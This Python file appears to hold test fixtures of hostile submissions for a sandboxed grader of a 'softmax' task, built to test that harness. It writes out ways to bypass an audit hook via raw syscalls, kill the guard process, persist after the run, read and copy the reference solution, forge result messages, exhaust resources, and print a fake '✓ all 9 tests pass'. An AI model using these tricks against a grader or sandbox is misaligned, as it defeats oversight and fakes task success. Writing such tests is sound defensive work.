"""Hostile answers to `softmax(x, axis)`: they try to do harm, to cheat or to keep running; each touches only objects of its
own test.

VICTIM is replaced by the pid of a process of the test, SOLUTION by the path of the solution, VICTIM_FILE by a file of the
test outside the folder of the run. `native` bypasses the audit hook, as a C extension would.
"""

PRELUDE = '''
import os, sys, time
import numpy as np
def native(text, **names):
    names.update(os=os, log=[])
    exec(compile("import ctypes, struct\\nlibc = ctypes.CDLL(None, use_errno=True)\\ncall = libc.syscall\\n" + text,
                 "/usr/lib/disguised.py", "exec"), names)
    return names
def plumbing():
    frame = sys._getframe()
    while frame is not None and "send" not in frame.f_locals:
        frame = frame.f_back
    send = frame.f_locals["send"]
    cells = dict(zip(send.__code__.co_freevars, send.__closure__))
    return {name: cell.cell_contents for name, cell in cells.items()}
def every(*ways):
    for way in ways:
        try:
            way()
        except Exception as error:
            print(type(error).__name__, str(error)[:80])
'''

BODIES = {
    # --- signals -----------------------------------------------------------------------------------------------
    "fcntl_setown": """
import fcntl, signal
r, w = os.pipe()
every(lambda: fcntl.fcntl(r, fcntl.F_SETOWN, VICTIM), lambda: fcntl.fcntl(r, 10, 9),
      lambda: fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC), lambda: os.write(w, b"x"))
""",
    "fcntl_native": """
native('''
for end in os.pipe(), os.pipe():
    libc.fcntl(end[0], 8, VICTIM); libc.fcntl(end[0], 10, 9); libc.fcntl(end[0], 4, 0x2000); os.write(end[1], b"x")
''')
""",
    "fcntl_by_number_with_high_bits": """
native('''
r, w = os.pipe()
call(72, r, ctypes.c_ulong(8 | 1 << 40), VICTIM); call(72, r, ctypes.c_ulong(10 | 1 << 33), 9)
call(72, r, ctypes.c_ulong(15 | 1 << 35), struct.pack("ii", 1, VICTIM)); call(72, r, 4, ctypes.c_ulong(0x2000 | 1 << 50))
os.write(w, b"x")
''')
""",
    "setown_of_a_group": """
native('''
r, w = os.pipe()
for owner in (-VICTIM, VICTIM):
    libc.fcntl(r, 15, struct.pack("ii", 2, VICTIM)); libc.fcntl(r, 8, owner); libc.fcntl(r, 10, 19)
    libc.fcntl(r, 4, 0x2800); os.write(w, b"x")
''')
""",
    "ioctl_fioasync": """
native('''
r, w = os.pipe()
for request in (0x8901, 0x8902): libc.ioctl(r, request, struct.pack("i", VICTIM))
libc.ioctl(r, 0x5452, struct.pack("i", 1)); os.write(w, b"x")
''')
""",
    "leases_and_notices": """
native('''
open("file", "w").close()
f = os.open("file", 0); libc.fcntl(f, 8, VICTIM); libc.fcntl(f, 10, 9); libc.fcntl(f, 1024, 0)
d = os.open(".", 0); libc.fcntl(d, 8, VICTIM); libc.fcntl(d, 10, 9); libc.fcntl(d, 1026, ctypes.c_ulong(0x8000003f))
open("file", "w").close(); os.mkdir("another")
''')
""",
    "pidfd": """
import signal
def way():
    signal.pidfd_send_signal(os.pidfd_open(VICTIM), 9)
every(way)
native("fd = call(434, VICTIM, 0); call(424, fd, 9, 0, 0)")
""",
    "queued_signals": """
native('''
info = ctypes.create_string_buffer(128)
call(129, VICTIM, 9, info); call(297, VICTIM, VICTIM, 9, info); call(62, VICTIM, 9); call(200, VICTIM, 9); call(234, VICTIM, VICTIM, 9)
''')
""",
    "timer_for_another_thread": """
native('''
event = ctypes.create_string_buffer(64); struct.pack_into("Qiii", event, 0, 0, 9, 4, VICTIM)
timer = ctypes.c_int()
if call(222, 0, event, ctypes.byref(timer)) == 0: call(223, timer, 0, struct.pack("qqqq", 0, 0, 0, 1000), 0)
import time; time.sleep(0.1)
''')
""",
    "limits_of_another": """
every(lambda: __import__("resource").prlimit(VICTIM, 0, (0, 0)))
native("call(302, VICTIM, 0, struct.pack('QQ', 0, 0), 0); call(302, VICTIM, 7, struct.pack('QQ', 0, 0), 0)")
""",
    "turns_of_another": """
every(lambda: os.setpriority(os.PRIO_PROCESS, VICTIM, 19), lambda: os.sched_setaffinity(VICTIM, {0}),
      lambda: os.sched_setscheduler(VICTIM, os.SCHED_IDLE, os.sched_param(0)))
""",
    "memory_of_another": """
native('''
buffer = ctypes.create_string_buffer(8)
vector = struct.pack("PN", ctypes.addressof(buffer), 8)
call(311, VICTIM, vector, 1, struct.pack("PN", 0x400000, 8), 1, 0); call(101, 16, VICTIM, 0, 0); call(101, 0x4206, VICTIM, 0, 0)
''')
every(lambda: open("/proc/VICTIM/mem", "r+b"), lambda: os.open("/proc/VICTIM/mem", os.O_RDWR))
""",
    "kills_its_guard": """
native('''
libc.prctl(1, 0, 0, 0, 0); libc.prctl(4, 0, 0, 0, 0)
call(105, 1000); call(117, 65534, 65534, 65534)
r, w = os.pipe()
for number in (os.getppid(), 1): libc.fcntl(r, 8, number); libc.fcntl(r, 10, 9); libc.fcntl(r, 4, 0x2000); os.write(w, b"x")
call(62, os.getppid(), 9)
''')
while True: time.sleep(1)
""",
    "erases_its_mark": """
native('''
words = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
place = 0
while words[place]:
    ctypes.memset(words[place], 0, len(words[place])); place += 1
''')
every(os.setsid, lambda: os.setpgid(0, 0))
while True: time.sleep(1)
""",
    "stops_itself_natively": "native('call(62, os.getpid(), 19)')\nwhile True: pass",
    "a_storm_of_alarms": """
import signal
signal.signal(signal.SIGALRM, lambda *a: None); signal.signal(signal.SIGXCPU, signal.SIG_IGN)
signal.setitimer(signal.ITIMER_REAL, 1e-5, 1e-5)
while True: pass
""",
    # --- other processes and the network --------------------------------------------------------------------------
    "clone_by_number": "native('call(56, 17, 0, 0, 0, 0); call(57); call(58); call(435, struct.pack(\"Q\" * 11, *[0] * 11), 88)')",
    "clone_that_shares_all_but_the_thread": "native('call(56, 0x100 | 0x200 | 0x400 | 0x800, 0, 0, 0, 0)')",
    "posix_spawn": """
native('''
pid = ctypes.c_int(); argv = (ctypes.c_char_p * 2)(b"/bin/sleep", None)
libc.posix_spawn(ctypes.byref(pid), b"/bin/sleep", None, None, argv, None); libc.system(b"sleep 30 &"); libc.popen(b"sleep 30", b"r")
''')
""",
    "execve": "native('libc.execv(b\"/bin/sleep\", (ctypes.c_char_p * 3)(b\"sleep\", b\"30\", None))')",
    "fork_exec_of_subprocess": """
import _posixsubprocess
r, w = os.pipe()
every(lambda: _posixsubprocess.fork_exec([b"/bin/sleep", b"30"], [b"/bin/sleep"], True, (w,), None, None, -1, -1, -1, -1, -1, -1, r, w,
                                         True, True, -1, None, None, None, -1, None, False))
""",
    "multiprocessing_forkserver": """
import multiprocessing
every(lambda: multiprocessing.get_context("forkserver").Process(target=print).start(),
      lambda: multiprocessing.get_context("spawn").Process(target=print).start())
""",
    "sockets_of_every_kind": """
native('''
for family in (1, 2, 10, 16, 17, 38, 40): call(41, family, 1, 0); call(41, family, 3, 0); call(53, family, 1, 0, ctypes.create_string_buffer(8))
''')
""",
    "rings": "native('call(425, 8, ctypes.create_string_buffer(120)); call(206, 8, ctypes.byref(ctypes.c_ulong()))')",
    "what_outlives": """
native('''
call(29, 77, 4096, 0o1600); call(64, 77, 1, 0o1600); call(68, 77, 0o1600); call(248, b"user", b"x", b"y", 1, -3)
call(240, b"regard_hostile", 0x42, 0o600, 0); call(244, 0, 0)
''')
""",
    "another_user": "native('call(105, 0); call(106, 0); call(117, 0, 0, 0); call(126, struct.pack(\"Ii\", 0x20080522, 0), b\"\\\\xff\" * 24)')",
    "namespaces_again": """
native('''
call(272, 0x10000000); call(272, 0x20000); call(161, b"/"); call(165, b"none", b".", b"tmpfs", 0, 0); call(428, -100, b"/", 1); call(430, b"tmpfs", 0)
''')
""",
    "files_by_handle": """
native('''
handle = ctypes.create_string_buffer(136); struct.pack_into("I", handle, 0, 128); mount = ctypes.c_int()
call(303, -100, b"SOLUTION", handle, ctypes.byref(mount), 0); log.append(call(304, -100, handle, 0))
''')
""",
    # --- files ---------------------------------------------------------------------------------------------------
    "seventeen_long_names": """
for _ in range(17):
    os.mkdir("n" * 250); os.chdir("n" * 250)
""",
    "two_thousand_levels": """
native('''
for _ in range(2000): libc.mkdir(b"n" * 250, 0o700); libc.chdir(b"n" * 250)
''')
""",
    "levels_without_permission": """
for _ in range(30):
    os.mkdir("n" * 250); os.chdir("n" * 250); os.chmod("..", 0)
""",
    "levels_only_to_enter": """
native('''
for _ in range(40): libc.mkdir(b"n" * 200, 0o700); libc.chdir(b"n" * 200); open("f", "w").close(); libc.chmod(b"..", 0o100)
''')
""",
    "odd_names": """
for name in (b"\\n", b"\\xff\\xfe", b" ", b"-rf", b"...", b"\\x1b[31m", "\\u202e".encode(), b"moved-1", b"*", b"a" * 255):
    every(lambda: os.mkdir(name), lambda: os.chmod(name, 0o555))
every(lambda: os.mkfifo("fifo"), lambda: os.symlink("/", "root"), lambda: os.symlink("loop", "loop"), lambda: os.link("fifo", "twice"))
""",
    "many_files_natively": """
native('''
for place in range(300_000): os.close(fd) if (fd := libc.open(str(place).encode(), 0o101, 0o600)) >= 0 else None
''')
""",
    "many_folders_natively": "native('for place in range(300_000): libc.mkdir(str(place).encode(), 0o700)')",
    "vacuum_into": """
import sqlite3
base = sqlite3.connect(":memory:")
base.execute("create table t (b blob)"); base.executemany("insert into t values (zeroblob(1000000))", [()] * 3); base.commit()
for place in range(2000):
    every(lambda: base.execute("vacuum into ?", (f"copy{place}.db",)))
""",
    "attached_databases": """
import sqlite3
for place in range(200):
    base = sqlite3.connect(":memory:")
    every(lambda: base.execute("attach ? as x", (f"a{place}.db",)), lambda: base.execute("create table x.t (b)"),
          lambda: base.execute("insert into x.t values (zeroblob(3000000))"), base.commit, base.close)
""",
    "mapped_files": """
native('''
import mmap
for place in range(400):
    fd = libc.open(b"m%d" % place, 0o102, 0o600)
    if fd >= 0 and libc.ftruncate(fd, ctypes.c_long(4 << 20)) == 0:
        m = mmap.mmap(fd, 4 << 20); m[:] = b"x" * (4 << 20); m.close()
    if fd >= 0: os.close(fd)
''')
""",
    "a_large_sparse_file": """
every(lambda: os.truncate(os.open("s", os.O_CREAT | os.O_RDWR), 1 << 40))
native('''
fd = libc.open(b"s", 0o102, 0o600); libc.ftruncate(fd, ctypes.c_long(1 << 40)); libc.pwrite(fd, b"x", 1, ctypes.c_long(1 << 39))
''')
""",
    "reserved_blocks": """
native('''
for place in range(500):
    fd = libc.open(b"r%d" % place, 0o102, 0o600); libc.fallocate(fd, 0, ctypes.c_long(0), ctypes.c_long(4 << 20)); libc.posix_fallocate(fd, ctypes.c_long(0), ctypes.c_long(1 << 20)); os.close(fd)
''')
""",
    "files_without_a_name": """
native('''
held = []
for place in range(60):
    fd = libc.open(b".", 0o20200002, 0o600)
    if fd < 0: break
    held.append(fd)
    for _ in range(4): libc.write(fd, b"x" * (1 << 20), 1 << 20)
''')
time.sleep(0.3)
""",
    "copied_ranges": """
native('''
source = libc.open(b"c", 0o102, 0o600); libc.write(source, b"x" * (3 << 20), 3 << 20)
for place in range(300):
    fd = libc.open(b"c%d" % place, 0o102, 0o600)
    call(326, source, ctypes.byref(ctypes.c_long(0)), fd, 0, 3 << 20, 0); libc.sendfile(fd, source, ctypes.byref(ctypes.c_long(0)), 3 << 20); libc.ioctl(fd, 0x40049409, source); os.close(fd)
''')
""",
    "writes_outside": """
every(lambda: open("VICTIM_FILE", "w"), lambda: os.remove("VICTIM_FILE"), lambda: os.truncate("VICTIM_FILE", 0))
native('''
fd = libc.open(b"VICTIM_FILE", 1); libc.write(fd, b"gone", 4); libc.truncate(b"VICTIM_FILE", 0); libc.unlink(b"VICTIM_FILE")
libc.rename(b"VICTIM_FILE", b"taken"); libc.link(b"VICTIM_FILE", b"linked"); libc.symlink(b"VICTIM_FILE", b"there"); fd = libc.open(b"there", 0o1002); libc.write(fd, b"gone", 4)
''')
import sqlite3
every(lambda: sqlite3.connect(":memory:").execute("vacuum into 'VICTIM_FILE'"))
""",
    "permissions_elsewhere": """
native('''
for call_, rest in ((libc.chmod, (0,)), (libc.utimes, (struct.pack("qqqq", 1, 0, 1, 0),)), (libc.chown, (1, 1))): call_(b"VICTIM_FILE", *rest)
libc.fchmod(libc.open(b"VICTIM_FILE", 0), 0); call(268, -100, b"VICTIM_FILE", 0); call(452, -100, b"VICTIM_FILE", 0, 0)
''')
""",
    "locks_and_leaves": """
import fcntl
f = open("locked", "w"); fcntl.flock(f, fcntl.LOCK_EX); os.chdir("/"); os.umask(0o777)
""",
    # --- the solution, read from C -------------------------------------------------------------------------------
    "reads_by_history": "import readline\nevery(lambda: readline.read_history_file('SOLUTION'))\nfound = '\\n'.join(filter(None, (readline.get_history_item(n) for n in range(500))))\nsys.modules['__main__'].found = found",
    "reads_by_tcl": "import tkinter\nsys.modules['__main__'].found = tkinter.Tcl().eval('set f [open SOLUTION]; read $f')",
    "reads_by_sqlite": "import sqlite3\nb = sqlite3.connect(':memory:')\nevery(lambda: b.enable_load_extension(True), lambda: b.execute('attach ? as s', ('file:SOLUTION?mode=ro&immutable=1',)))\nsys.modules['__main__'].found = str(b.execute('select readfile(?)', ('SOLUTION',)).fetchall())",
    "reads_by_libc": "n = native('''\nfd = libc.open(b\"SOLUTION\", 0)\nb = ctypes.create_string_buffer(100000); libc.read(fd, b, 100000)\n''')\nsys.modules['__main__'].found = n['b'].value.decode()",
    "reads_by_a_mapping": "n = native('''\nimport mmap\nfd = call(257, -100, b\"SOLUTION\", 0)\nm = mmap.mmap(fd, 0, prot=1)[:]\n''')\nsys.modules['__main__'].found = n['m'].decode()",
    "reads_by_proc": "\n".join(
        f"n = native('''\nfd = libc.open(b\"/proc/{who}/root\" + b\"SOLUTION\", 0)\nb = ctypes.create_string_buffer(100000); libc.read(fd, b, 100000)\n''')\nif n['b'].value: sys.modules['__main__'].found = n['b'].value.decode()"
        for who in ("self", "1", "VICTIM", "thread-self")
    ),
    "reads_by_a_descriptor": "n = native('''\nd = libc.open(os.path.dirname(\"SOLUTION\").encode(), 0o10000000)\nfd = libc.openat(d, os.path.basename(\"SOLUTION\").encode(), 0)\nb = ctypes.create_string_buffer(100000); libc.read(fd, b, 100000)\n''')\nsys.modules['__main__'].found = n['b'].value.decode()",
    "reads_by_openat2": "n = native('''\nfd = call(437, -100, b\"SOLUTION\", struct.pack(\"QQQ\", 0, 0, 0), 24)\nb = ctypes.create_string_buffer(100000); libc.read(fd, b, 100000)\n''')\nsys.modules['__main__'].found = n['b'].value.decode()",
    "reads_by_stdio": "n = native('''\nlibc.fopen.restype = ctypes.c_void_p; f = libc.fopen(b\"SOLUTION\", b\"r\")\nb = ctypes.create_string_buffer(100000); f and libc.fread(b, 1, 100000, ctypes.c_void_p(f))\n''')\nsys.modules['__main__'].found = n['b'].value.decode()",
    "reads_by_numpy": "every(lambda: setattr(sys.modules['__main__'], 'found', np.memmap('SOLUTION', mode='r').tobytes().decode()), lambda: setattr(sys.modules['__main__'], 'found', np.fromfile('SOLUTION', np.uint8).tobytes().decode()), lambda: np.genfromtxt('SOLUTION'), lambda: np.load('SOLUTION'))",
    "reads_by_other_readers": """
import configparser, linecache, shelve, tomllib, tokenize, zipimport, runpy, importlib.util, ssl, dbm, mmap, fileinput, csv
every(lambda: setattr(sys.modules['__main__'], 'found', ''.join(linecache.getlines('SOLUTION'))), lambda: runpy.run_path('SOLUTION'),
      lambda: setattr(sys.modules['__main__'], 'found', ''.join(fileinput.input('SOLUTION'))), lambda: tokenize.open('SOLUTION'),
      lambda: importlib.util.spec_from_file_location('x', 'SOLUTION').loader.load_module(), lambda: dbm.open('SOLUTION'),
      lambda: ssl.create_default_context(cafile='SOLUTION'), lambda: zipimport.zipimporter('SOLUTION'), lambda: configparser.ConfigParser().read('SOLUTION'))
import importlib
every(lambda: setattr(sys.modules['__main__'], 'found', importlib.machinery.SourceFileLoader('x', 'SOLUTION').get_data('SOLUTION').decode()))
""",
    "moves_the_package": """
import shutil
every(lambda: os.rename(os.path.dirname("SOLUTION"), "here"), lambda: shutil.copytree(os.path.dirname("SOLUTION"), "here"), lambda: os.link("SOLUTION", "here"))
native('libc.rename(b"SOLUTION", b"here"); libc.link(b"SOLUTION", b"here")')
every(lambda: setattr(sys.modules['__main__'], 'found', open("here").read()))
""",
    # --- answers ---------------------------------------------------------------------------------------------------
    **{
        f"forged_{name}": f"""
import struct
p = plumbing()
header = {header}
data = struct.pack("!I", len(header)) + header
for n in range(2, 9):
    message = struct.pack("!16sIQ", p["nonce"], n, len(data)) + data
    while message: message = message[os.write(p["pipe"], message):]
while True: time.sleep(1)
"""
        for name, header in {
            "numbers": """b'{"tree":{"l":[' + b"1," * 13_000_000 + b'1]},"arrays":[]}'""",
            "brackets": """b'{"tree":{"l":[' + b"{}," * 1_000_000 + b'{}]},"arrays":[]}'""",
            "depth": """b'{"tree":' + b'{"l":[' * 300_000 + b"]}" * 300_000 + b',"arrays":[]}'""",
            "digits": """b'{"tree":' + b"9" * 3_000_000 + b',"arrays":[]}'""",
            "texts": """b'{"tree":{"d":[["raised","' + b"x" * 3_000_000 + b'"]]},"arrays":[]}'""",
            "keys": """b'{"tree":{"d":[["details",{"d":[' + b",".join(b'["%d",1]' % n for n in range(70_000)) + b']}]]},"arrays":[]}'""",
            "values": """b'{"tree":{"d":[["value",{"l":[' + b",".join(b'["%d",1]' % n for n in range(9)) + b']}]]},"arrays":[]}'""",
            "arrays": """b'{"tree":1,"arrays":[' + b'["bool",[0]],' * 200_000 + b'["bool",[0]]]}'""",
            "shared": """b'{"tree":{"d":[["value",{"l":[' + b'{"a":0},' * 70_000 + b'{"a":0}]}]]},"arrays":[["bool",[0]]]}'""",
            "names": """b'{"tree":{"o":["' + b"\\\\u001b[31m" * 100_000 + b'","large"]},"arrays":[]}'""",
        }.items()
    },
    "half_a_header": "p = plumbing()\nos.write(p['pipe'], p['nonce'])\nwhile True: pass",
    "another_number": "import struct\np = plumbing()\nos.write(p['pipe'], struct.pack('!16sIQ', p['nonce'], 2**32 - 1, 2**63))\nwhile True: pass",
    "closes_the_pipe_and_stays": "p = plumbing()\nos.close(p['pipe']); os.close(1); os.close(2)\nwhile True: time.sleep(1)",
    # --- memory and time ---------------------------------------------------------------------------------------------
    "shared_memory": """
native('''
libc.mmap.restype = ctypes.c_void_p
for _ in range(100):
    place = libc.mmap(0, ctypes.c_size_t(1 << 30), 3, 0x21, -1, ctypes.c_long(0))
    if place in (None, 2**64 - 1): break
    ctypes.memset(place, 1, 1 << 30)
''')
""",
    "memory_files": """
native('''
for _ in range(60):
    fd = call(319, b"m", 0)
    for _ in range(64): libc.write(fd, b"x" * (1 << 20), 1 << 20)
''')
while True: pass
""",
    "a_wide_format": "'{:2000000000}'.format(1)",
    "a_long_power": "str(10 ** 10 ** 8)",
    "a_long_sort": "sorted(range(10 ** 8), key=lambda n: -n)",
    "a_slow_glob": "import fnmatch\nfnmatch.fnmatch('a' * 100000, '*a' * 1000 + 'b')",
    "a_loop_of_threads": "import threading\nfor _ in range(50): threading.Thread(target=lambda: [None for _ in iter(int, 1)]).start()",
    "exits_while_a_thread_writes": "import threading\nthreading.Thread(target=lambda: [print('x' * 1000) for _ in iter(int, 1)]).start()\nos._exit(0)",
    "a_crash_in_c": "import faulthandler\nfaulthandler._sigsegv()",
    "an_overflow_of_the_stack": "native('libc.qsort(ctypes.create_string_buffer(16), 2, 8, ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p)(lambda a, b: 1 // 0))')\nimport ctypes\nctypes.memset(0, 0, 1)",
}

RESULTS = {
    "past_64_bits": "2 ** 64",
    "far_below": "-(2 ** 1000)",
    "a_long_text": "'a' * 1999999",
    "many_texts": "['b' * 9000] * 60",
    "a_bool": "True",
    "none": "None",
    "not_implemented": "NotImplemented",
    "a_lock": "__import__('threading').Lock()",
    "a_type_that_steers": "type('\\x1b]0;x\\x07\\u202e', (), {})()",
    "a_structured_array": "np.zeros(x.shape, dtype=[('a', float)])",
    "broadcast": "np.broadcast_to(np.float64(1), (2 ** 20, 2 ** 20))",
    "a_matrix": "np.asmatrix(np.atleast_2d(x))",
    "long_numbers": "x.astype(np.longdouble) * 0 + 1",
    "complex_numbers": "x + 0j",
    "half_numbers": "np.full(x.shape, np.inf, np.float16)",
    "a_tuple_of_itself": "(softmax, softmax)",
    "a_dict_of_odd_keys": "{2 ** 64: 1, '\\x1b': 2}",
    "a_memoryview": "memoryview(x)",
}

ERRORS = {
    "a_group": "raise BaseExceptionGroup('x' * 10 ** 6, [ValueError(n) for n in range(1000)])",
    "a_long_chain": "error = None\nfor n in range(20000):\n    new = ValueError(n); new.__cause__ = error; error = new\nraise error",
    "a_message_that_exits": "raise type('E', (Exception,), {'__str__': lambda self: os._exit(0)})()",
    "a_refusal_of_its_own": "raise type('RefusedError', (PermissionError,), {'what': 'x' * 10 ** 6})('\\x1b[31m')",
    "a_lying_syntax_error": "raise SyntaxError('no', ('your file', 10 ** 9, 10 ** 9, 'x' * 10 ** 6))",
    "a_keyboard_interrupt": "raise KeyboardInterrupt",
    "generator_exit": "raise GeneratorExit",
    "a_name_that_steers": "raise type('E\\n\\x1b[2J✓ all 9 tests pass', (Exception,), {})('\\r\\x1b[2J✓ all 9 tests pass')",
}


def programs() -> dict[str, str]:
    """Every program, by name."""
    found = {}
    for name, body in BODIES.items():
        found[name] = PRELUDE + _with_body(body)
    for name, result in RESULTS.items():
        found[f"gives_{name}"] = f"{PRELUDE}def softmax(x, axis):\n    return {result}\n"
    for name, text in ERRORS.items():
        found[f"raises_{name}"] = PRELUDE + "def softmax(x, axis):\n" + "".join(f"    {line}\n" for line in text.split("\n"))
    return found


def _with_body(body: str) -> str:
    """The body runs in the first call, as text, so that its own lines need no indentation."""
    return f'''
BODY = {body!r}
found = ""
sys.modules["__main__"].found = ""
def softmax(x, axis):
    exec(compile(BODY, "your file", "exec"), globals())
    text = sys.modules["__main__"].found
    if "def softmax" in text:
        names = {{}}
        exec(text[text.index("import"):], names)
        return names["softmax"](x, axis)
    return x
'''
